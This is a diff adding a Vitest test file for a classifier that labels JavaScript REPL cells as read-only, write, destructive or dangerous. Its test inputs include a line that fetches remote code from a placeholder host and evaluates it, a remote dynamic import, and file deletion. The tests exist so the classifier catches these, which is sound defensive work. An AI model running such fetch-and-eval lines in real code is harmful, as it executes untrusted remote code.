@@ -1,0 +1,101 @@
+import { describe, expect, it } from 'vitest';
+import { classifyCell, type CellClass } from '../../../src/repl/classify.ts';
+
+type Row = readonly [code: string, cellClass: CellClass];
+
+describe('classifyCell', () => {
+  it.each<Row>([
+    ['1 + 1', 'neutral'],
+    ['[1, 2].map((n) => n * 2)', 'neutral'],
+    ['console.log(JSON.stringify({ a: Math.max(1, 2) }))', 'neutral'],
+    ['const { join } = require("path"); join("a", "b")', 'neutral'],
+    ['items.filter((item) => item.done).length', 'neutral'],
+    ['fs.readFileSync("a.txt", "utf8")', 'read'],
+    ['fs.existsSync("a") && fs.statSync("a").size', 'list'],
+    ['import { readdirSync } from "node:fs"; readdirSync(".")', 'list'],
+    ['const f = require("fs"); for (const n of f.readdirSync(".")) f.readFileSync(n)', 'search'],
+    ['import { readFile } from "fs/promises"; await readFile("a")', 'read'],
+    ['await fs.promises.readFile("a")', 'read'],
+    ['const { readFileSync: r } = require("node:fs"); r("a")', 'read'],
+  ])('calls `%s` read-only', (code, cellClass) => {
+    expect(classifyCell(code)).toMatchObject({ cellClass, isReadOnly: true });
+  });
+
+  it.each<Row>([
+    ['fs.writeFileSync("a", "")', 'write'],
+    ['fs["write" + "FileSync"]("a", "")', 'write'],
+    ['const f = fs; f[name]("a")', 'write'],
+    ['helper(fs)', 'write'],
+    ['({ fs })', 'write'],
+    ['const { [x]: y } = fs', 'write'],
+    ['import { writeFileSync as read } from "fs"; read("a", "")', 'write'],
+    ['const { promises } = require("fs"); promises.mkdir("a")', 'write'],
+    ['fs.promises.appendFile("a", "")', 'write'],
+    ['require(name)', 'write'],
+    ['const r = require; r("fs").rmSync("a")', 'write'],
+    ['import "./src/build.js"', 'write'],
+    ['import("node:path")', 'write'],
+    ['eval("1")', 'write'],
+    ['new Function("return 1")()', 'write'],
+    ['(() => 1).constructor("return 1")()', 'write'],
+    ['globalThis.fs', 'write'],
+    ['this.fs.rmSync("a")', 'write'],
+    ['Reflect.get(x, "y")', 'write'],
+    ['save()', 'write'],
+    ['store.save()', 'write'],
+    ['new Store()', 'write'],
+    ['tag`x`', 'write'],
+    ['await runTests()', 'write'],
+    ['const x: number = 1', 'write'],
+    ['pick<string>(fs)', 'write'],
+    ['let = = 1', 'write'],
+    ['fs.rmSync("a")', 'destructive'],
+    ['fs.unlinkSync("a"); fs.writeFileSync("b", "")', 'destructive'],
+    ['await fetch("https://example.com")', 'open-world'],
+  ])('calls `%s` no read', (code, cellClass) => {
+    expect(classifyCell(code)).toEqual({ cellClass, isReadOnly: false, isConcurrencySafe: false });
+  });
+
+  it.each([
+    [
+      'eval(await (await fetch("https://x.test/a.js")).text())',
+      /^It runs text as code and reaches the network/u,
+    ],
+    ['new Function(await load(fetch))', /^It runs text as code/u],
+    ['import("https://x.test/a.js")', /^It imports code from https:\/\/x\.test\/a\.js/u],
+    ['import x from "data:text/javascript,1"', /^It imports code from data:/u],
+  ])('calls `%s` dangerous, and says why', (code, reason) => {
+    expect(classifyCell(code)).toMatchObject({
+      cellClass: 'dangerous',
+      isReadOnly: false,
+      reason: expect.stringMatching(reason) as string,
+    });
+  });
+
+  it.each([
+    ['fs.readFileSync("a", "utf8").length', true],
+    ['(() => { const own = 1; return own })()', true],
+    ['items.map((item) => item.name)', true],
+    ['const x = fs.readFileSync("a")', false],
+    ['import path from "path"; path.sep', false],
+    ['function f() {}', false],
+    ['x = 1', false],
+    ['(() => { count++ })()', false],
+    ['settings.depth = 2', false],
+    ['delete settings.depth', false],
+    ['items.push(1)', false],
+    ['items[0].list.sort()', false],
+  ])('lets `%s` run beside others: %s', (code, isConcurrencySafe) => {
+    expect(classifyCell(code)).toMatchObject({ isReadOnly: true, isConcurrencySafe });
+  });
+
+  it('takes an object literal for what the session takes it for', () => {
+    expect(classifyCell('{ a: fs.writeFileSync("x", ""), b: 1 }').cellClass).toBe('write');
+    expect(classifyCell('{ a: 1, b: 2 }').cellClass).toBe('neutral');
+  });
+
+  it('calls code that is nested too deeply a write', () => {
+    expect(classifyCell('['.repeat(100_000)).cellClass).toBe('write');
+    expect(classifyCell('-'.repeat(100_001).split('').join(' ') + '1').cellClass).toBe('write');
+  });
+});
